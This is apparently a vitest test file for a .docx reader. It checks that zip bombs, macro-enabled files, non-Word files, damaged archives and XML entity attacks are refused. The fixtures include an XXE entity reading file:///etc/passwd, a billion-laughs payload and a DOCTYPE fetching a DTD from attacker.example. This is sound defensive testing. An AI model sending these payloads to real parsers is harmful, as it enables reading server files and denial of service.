import { describe, expect, it } from 'vitest';
import { minimalDocx, minimalDocxParts } from './fixtures/docx-parts.ts';
import { writeZip, type ZipEntrySpec } from './fixtures/zip-writer.ts';
import { DocumentError, readDocx, type DocumentErrorCode, type DocxLimits } from './index.ts';

const MB = 1024 * 1024;

async function refusal(bytes: Buffer, limits?: Partial<DocxLimits>): Promise<DocumentError> {
  const error = await readDocx(bytes, limits).then(
    () => undefined,
    (e: unknown) => e,
  );
  expect(error).toBeInstanceOf(DocumentError);
  return error as DocumentError;
}
const expectCode = async (bytes: Buffer, code: DocumentErrorCode, limits?: Partial<DocxLimits>) =>
  expect((await refusal(bytes, limits)).code).toBe(code);
const replace =
  (name: string, data: string | Buffer, extra: Partial<ZipEntrySpec> = {}) =>
  (parts: ZipEntrySpec[]) =>
    parts.map((e) => (e.name === name ? { ...e, data, ...extra } : e));
const add =
  (...more: ZipEntrySpec[]) =>
  (parts: ZipEntrySpec[]) => [...parts, ...more];
const documentXml = (prefix: string) =>
  `<?xml version="1.0"?>${prefix}<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>&x;</w:t></w:r></w:p></w:body></w:document>`;

describe('readDocx refuses before conversion', () => {
  it('reads the untouched hand-made document, so each refusal below is caused by its one change', async () => {
    const doc = await readDocx(minimalDocx());
    expect(doc.sections).toEqual([{ heading: 'Scope', level: 1, markdown: 'Body text' }]);
  });

  it('accepts a plain Uint8Array and refuses things that are not bytes', async () => {
    const bytes = minimalDocx();
    expect((await readDocx(new Uint8Array(bytes))).sections).toHaveLength(1);
    await expectCode('not bytes' as unknown as Buffer, 'not-docx');
  });

  it('too-large: more than 5 MB, with a message naming the limit', async () => {
    const error = await refusal(Buffer.concat([minimalDocx(), Buffer.alloc(5 * MB)]));
    expect(error.code).toBe('too-large');
    expect(error.message).toBe('The file must be smaller than 5 MB');
    expect(error.status).toBe(413);
  });

  it.each([
    ['empty', Buffer.alloc(0)],
    ['plain text', Buffer.from('Security Management Plan\n')],
    ['a PDF renamed .docx', Buffer.from('%PDF-1.7\n%âãÏÓ\n1 0 obj <<>> endobj\n')],
    ['a zip cut short', minimalDocx().subarray(0, 60)],
    ['a zip without word/document.xml', writeZip([{ name: 'hello.txt', data: 'hi' }])],
  ])('not-docx: %s', async (_, bytes) => {
    const error = await refusal(bytes);
    expect(error.code).toBe('not-docx');
    expect(error.message).toBe('The file is not a Word document (.docx)');
  });

  it('zip-bomb: more entries than allowed', async () => {
    const many = Array.from({ length: 1001 }, (_, i) => ({ name: `customXml/item${i}.xml`, data: '<a/>' }));
    await expectCode(minimalDocx(add(...many)), 'zip-bomb');
  });

  it('zip-bomb: one part that honestly declares more than the per-part limit', async () => {
    await expectCode(
      minimalDocx(add({ name: 'word/big.xml', data: Buffer.alloc(3000, 0x20), deflate: true })),
      'zip-bomb',
      { maxEntryBytes: 2000, maxRatio: 1e9 },
    );
  });

  it('zip-bomb: parts that together declare more than the total limit', async () => {
    const part = (n: number) => ({ name: `word/part${n}.xml`, data: Buffer.alloc(600, 0x20) });
    await expectCode(minimalDocx(add(part(1), part(2))), 'zip-bomb', { maxTotalBytes: 1000 });
  });

  it('zip-bomb: a 60 MB part that deflates to a few KB (default limits)', async () => {
    await expectCode(
      minimalDocx(add({ name: 'word/settings.xml', data: Buffer.alloc(60 * MB, 0x20), deflate: true })),
      'zip-bomb',
    );
  });

  it('zip-bomb: an absurd ratio even when the size is within the limits', async () => {
    await expectCode(
      minimalDocx(add({ name: 'word/settings.xml', data: Buffer.alloc(3 * MB, 0x20), deflate: true })),
      'zip-bomb',
    );
  });

  it('zip-bomb: headers that lie — a part declared as 100 bytes that inflates past the caps', async () => {
    const lying = { name: 'word/styles.xml', data: Buffer.alloc(30 * MB, 0x20), deflate: true, declaredSize: 100 };
    await expectCode(minimalDocx(add(lying)), 'zip-bomb');
  });

  // Claims larger than the truth: only the central-directory checks can refuse these as bombs
  // (inflating would find too few bytes and call the file damaged instead).
  it('zip-bomb: refused from the declared size alone, before inflating', async () => {
    await expectCode(minimalDocx(add({ name: 'word/big.xml', data: '<a/>', declaredSize: 100 * MB })), 'zip-bomb');
  });

  it('zip-bomb: refused from the declared ratio alone, before inflating', async () => {
    await expectCode(minimalDocx(add({ name: 'word/big.xml', data: '<a/>', declaredSize: 3 * MB })), 'zip-bomb');
  });

  it('unreadable: a part with fewer bytes than declared, within the limits', async () => {
    await expectCode(minimalDocx(add({ name: 'word/short.xml', data: '<a/>', declaredSize: 10 })), 'unreadable');
  });

  it('never inflates pictures and other non-XML parts, so a bomb among them is harmless', async () => {
    const bomb = { name: 'word/media/image1.png', data: Buffer.alloc(30 * MB), deflate: true, declaredSize: 10 };
    expect((await readDocx(minimalDocx(add(bomb)))).sections).toHaveLength(1);
  });

  it('macros: a vbaProject.bin part', async () => {
    const error = await refusal(
      minimalDocx(add({ name: 'word/vbaProject.bin', data: Buffer.from([0xd0, 0xcf, 0x11, 0xe0]) })),
    );
    expect(error.code).toBe('macros');
    expect(error.message).toMatch(/contains macros/);
  });

  it('macros: a .docm main part declared in the content types, even with the VBA part renamed', async () => {
    const types = String(minimalDocxParts()[0]!.data)
      .replace('wordprocessingml.document.main+xml', '')
      .replace(
        'application/vnd.openxmlformats-officedocument.',
        'application/vnd.ms-word.document.macroEnabled.main+xml',
      );
    await expectCode(minimalDocx(replace('[Content_Types].xml', types)), 'macros');
  });

  it.each([
    ['a DOCTYPE with an external entity (XXE)', documentXml('<!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]>')],
    ['billion laughs', documentXml('<!DOCTYPE d [<!ENTITY a "lol"><!ENTITY x "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]>')],
    ['a lone ENTITY declaration', documentXml('<!ENTITY x "y">')],
  ])('entities: %s in word/document.xml', async (_, xml) => {
    await expectCode(minimalDocx(replace('word/document.xml', xml)), 'entities');
  });

  it('entities: a DOCTYPE in UTF-16 in another part', async () => {
    const utf16 = Buffer.from(
      '\uFEFF<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE s SYSTEM "http://attacker.example/x.dtd"><w:styles/>',
      'utf16le',
    );
    await expectCode(minimalDocx(add({ name: 'word/styles.xml', data: utf16 })), 'entities');
  });

  it('unreadable: two parts with the same name', async () => {
    await expectCode(minimalDocx(add(minimalDocxParts()[2]!)), 'unreadable');
  });

  it.each([
    ['an encrypted main document', { encrypted: true }],
    ['a main document compressed with an unknown method', { method: 12 }],
  ])('unreadable: %s', async (_, change) => {
    await expectCode(
      minimalDocx((parts) => parts.map((e) => (e.name === 'word/document.xml' ? { ...e, ...change } : e))),
      'unreadable',
    );
  });

  it('unreadable: a main document that is not XML', async () => {
    await expectCode(minimalDocx(replace('word/document.xml', '<w:document><w:body><w:p>')), 'unreadable');
  });
});

describe('readDocx on damaged input', () => {
  // A small deterministic generator, so a failure names a reproducible case.
  const random = (seed: number) => () => (seed = (seed * 1103515245 + 12345) >>> 0) / 2 ** 32;

  it('only ever returns a document or throws DocumentError, whatever bytes are flipped or cut', async () => {
    const originals = [minimalDocx(), minimalDocx((parts) => parts.map((e) => ({ ...e, deflate: true })))];
    const next = random(42);
    const cases: Buffer[] = [];
    for (const original of originals) {
      for (let cut = 0; cut < original.length; cut += 37) cases.push(original.subarray(0, cut));
      for (let i = 0; i < 150; i++) {
        const copy = Buffer.from(original);
        for (let flips = 1 + Math.floor(next() * 4); flips > 0; flips--)
          copy[Math.floor(next() * copy.length)] = Math.floor(next() * 256);
        cases.push(copy);
      }
    }
    const outcomes = await Promise.all(
      cases.map((bytes) =>
        readDocx(bytes).then(
          () => 'read',
          (e: unknown) => (e instanceof DocumentError ? e.code : `crash: ${String(e)}`),
        ),
      ),
    );
    expect(outcomes.filter((o) => o.startsWith('crash'))).toEqual([]);
    // Both branches were exercised, so the property is not vacuous.
    expect(outcomes).toContain('read');
    expect(outcomes).toContain('not-docx');
  });
});
